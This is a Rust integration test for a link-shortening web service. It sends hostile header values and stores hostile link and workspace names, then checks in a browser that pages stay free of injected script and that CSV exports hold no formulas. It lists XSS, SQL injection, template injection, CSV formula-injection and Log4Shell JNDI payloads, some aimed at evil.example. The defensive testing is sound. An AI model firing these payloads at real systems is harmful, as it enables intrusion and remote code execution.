//! Clicks with hostile text in their headers, and a workspace full of such text: afterwards every page and every
//! export is looked at in a real browser. No dialog opens, no script runs, no cell is a formula.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use kurz_test_support::accounts::PASSWORD;
use kurz_test_support::http::Http;
use kurz_test_support::{TestServer, links};
use serde_json::{Value, json};

use super::browser::{Browser, Screen};

const HEADERS: [&str; 7] = [
    "Referer",
    "User-Agent",
    "X-Forwarded-For",
    "Accept-Language",
    "Sec-CH-UA",
    "Sec-Purpose",
    "Cookie",
];

/// What the headers say. Some are no text, some are very long.
fn poisons() -> Vec<Vec<u8>> {
    let long = [b"<script>alert(1)</script>".as_slice(), &[b'x'; 7000]].concat();
    let short: [&[u8]; 16] = [
        b"<script>alert(1)</script>",
        b"\"><img src=x onerror=alert(1)>",
        b"'><svg onload=alert(1)>",
        b"https://evil.example/<script>alert(1)</script>?\"onmouseover=\"alert(1)",
        b"https://evil.example/\"><script>alert(document.cookie)</script>",
        b"javascript:alert(1)",
        b"</title></textarea></style><script>alert(1)</script>",
        b"=cmd|' /C calc'!A0",
        b"+1+1\",=HYPERLINK(\"https://evil.example\")",
        b"-2+3+cmd|' /C calc'!A0",
        b"@SUM(1+1)*cmd|' /C calc'!A0",
        b"1' or '1'='1'; drop table links; --",
        b"{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
        "😀\u{202e}gnp.exe\u{200b}\u{feff}".as_bytes(),
        b"\xff\xfe\xc0\xaf\x80",
        b"${jndi:ldap://evil.example/a}",
    ];
    short.into_iter().map(<[u8]>::to_vec).chain([long]).collect()
}

/// Follow a link with these bytes as a header; the status.
fn visit(server: &TestServer, code: &str, header: &str, value: &[u8]) -> String {
    let base = server.base_url();
    let address = base.trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let head =
        format!("GET /{code} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n{header}: ");
    stream.write_all(&[head.as_bytes(), value, b"\r\n\r\n"].concat()).unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or((answer.as_str(), ""));
    let said = head.lines().filter(|line| !line.starts_with("location:")).chain([body]);
    let mut said = said.filter(|line| line.contains("alert(1)"));
    assert_eq!(said.next(), None, "{header}: it comes back");
    answer.split(' ').nth(1).unwrap_or_default().to_owned()
}

/// A workspace, links and keys with hostile names, and hostile visits; how many visits.
async fn furnish(server: &TestServer, http: &Http) -> usize {
    let workspace = json!({ "id": "team", "name": "<script>alert(1)</script>\"'" });
    let made = http.post("/api/v1/workspaces", &workspace).await;
    if made.status != 201 {
        http.post("/api/v1/workspaces", &json!({ "id": "team" })).await.expect(201);
    }
    let titles = ["=1+1", "+1", "-1", "@a", "\"><script>alert(1)</script>", "'=1", "a\",=1,\"b"];
    for (at, title) in titles.iter().enumerate() {
        let link = json!({
            "original_url": format!("https://example.com/?q={title}"), "title": title,
            "custom_code": format!("p{at}-x"), "tags": [title],
        });
        links::make(http, "team", &link).await;
        links::make(http, "main", &link).await;
        http.post("/api/v1/keys", &json!({ "name": title, "scopes": ["read"] })).await;
    }
    let mut visits = 0;
    for header in HEADERS {
        for value in poisons() {
            let code = format!("p{}-x", visits % titles.len());
            let status = visit(server, &code, header, &value);
            assert!(["302", "400", "431"].contains(&status.as_str()), "{header}: {status}");
            visits += 1;
        }
    }
    visits
}

/// The cells of a CSV text as RFC 4180 reads them.
fn cells(text: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut letters = text.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cells.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(String::new()),
            '\r' if !quoted => {}
            letter => cells.last_mut().unwrap().push(letter),
        }
    }
    cells
}

// threats: H9, H13, H15
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn poisoned_visits_and_names_stay_text_on_every_page_and_export() {
    let server = TestServer::builder().accounts().from_now().start().await;
    server.administrator("ada").await;
    let http = server.log_in("ada").await;
    let visits = furnish(&server, &http).await;
    assert!(visits >= 100, "{visits} visits");

    let browser = Browser::open(&server.base_url(), Screen::Desk).await;
    browser.watch().await;
    browser.sign_in("ada", PASSWORD).await;
    browser.at("/app/w/main").await;
    for path in every_page() {
        browser.go(&path).await;
        let whole = "document.querySelectorAll('script:not([src^=\"/assets/\"])').length === 0 \
            && document.querySelectorAll('[onerror], [onload], [onmouseover]').length === 0 \
            && document.querySelectorAll('img[src=\"x\"], svg[onload]').length === 0 \
            && [...document.querySelectorAll('a')].every((a) => /^https?:/.test(new URL(a.href.baseVal ?? a.href, location).href))";
        assert_eq!(browser.script(&format!("return {whole}")).await, json!(true), "{path}");
        assert_eq!(browser.script("return window.__broken").await, json!([]), "{path}");
    }
    for workspace in ["main", "team"] {
        exports_hold_no_formula(&browser, workspace).await;
    }
    browser.close().await;
    server.stop().await;
}

/// Every page that shows something, with the names of this workspace and its links.
fn every_page() -> Vec<String> {
    let api = utoipa::openapi::OpenApiBuilder::new().build();
    let shown = kurz::web::pages(&api).into_iter().map(|(path, _)| path.to_owned());
    let plain = |path: &String| !path.contains("export") && !path.contains("{name}");
    let mut pages = Vec::new();
    for path in shown.filter(plain) {
        for (workspace, code) in [("main", "p0-x"), ("team", "p4-x"), ("team", "p6-x")] {
            let path = path.replace("{workspace}", workspace).replace("{code}", code);
            if !pages.contains(&path) && !path.contains('{') && !path.contains("logout") {
                pages.push(path);
            }
        }
    }
    pages.extend(["/p4-x+", "/w/team/p4-x+", "/nothing", "/api/docs"].map(str::to_owned));
    assert!(pages.len() > 30, "{pages:?}");
    pages
}

/// Both exports, as the browser gets them.
async fn exports_hold_no_formula(browser: &Browser, workspace: &str) {
    let get = |end: &str| {
        format!("return fetch('/app/w/{workspace}/export.{end}').then((answer) => answer.text())")
    };
    let Value::String(csv) = browser.script(&get("csv")).await else { panic!("no text") };
    let cells = cells(&csv);
    assert!(cells.len() > 7 * 13, "{csv}");
    for cell in cells {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {csv}");
    }
    let Value::String(text) = browser.script(&get("json")).await else { panic!("no text") };
    let links: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(links.as_array().unwrap().len(), 7);
}
